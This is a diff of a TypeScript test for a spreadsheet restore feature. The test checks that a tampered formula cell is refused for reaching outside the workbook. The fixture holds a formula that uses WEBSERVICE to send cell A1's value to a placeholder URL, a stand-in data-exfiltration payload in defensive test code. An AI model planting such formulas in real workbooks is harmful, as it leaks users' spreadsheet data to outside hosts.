@@ -151,7 +151,7 @@ describe.each(BENCHES)('Prepare and Restore over %s', (_, make) => {
     await b.travel.prepare(await reviewed(b));
     // Someone edits the kept table: the Formula of B1 becomes another formula's text.
     const kept = (await b.port.read({ tables: [KEPT_TABLE] })).table(KEPT_TABLE)!;
-    await b.port.write([{ kind: 'setTableColumn', table: KEPT_TABLE, column: 'Formula', values: kept.rows.map((r, i) => (i === 0 ? '=ESG.GRANT(44095,579,0,44769)+0*WEBSERVICE("https://example.invalid/?"&A1)' : r[2])) }]);
+    await b.port.write([{ kind: 'setTableColumn', table: KEPT_TABLE, column: 'Formula', values: kept.rows.map((r, i) => (i === 0 ? '=ESG.GRANT(44095,579,0,44769)+0*WEBSERVICE("https://example.invalid/?"&A1)' : r[2])), keys: { column: 'Formula', values: kept.rows.map((r) => r[2]) } }]);
     const review = await restoreReview(b);
     expect(review.refused).toEqual([{ cell: `${BUDGET}!B1`, reason: expect.stringMatching(/reaches outside the workbook/) }]);
     await b.travel.restore(review);
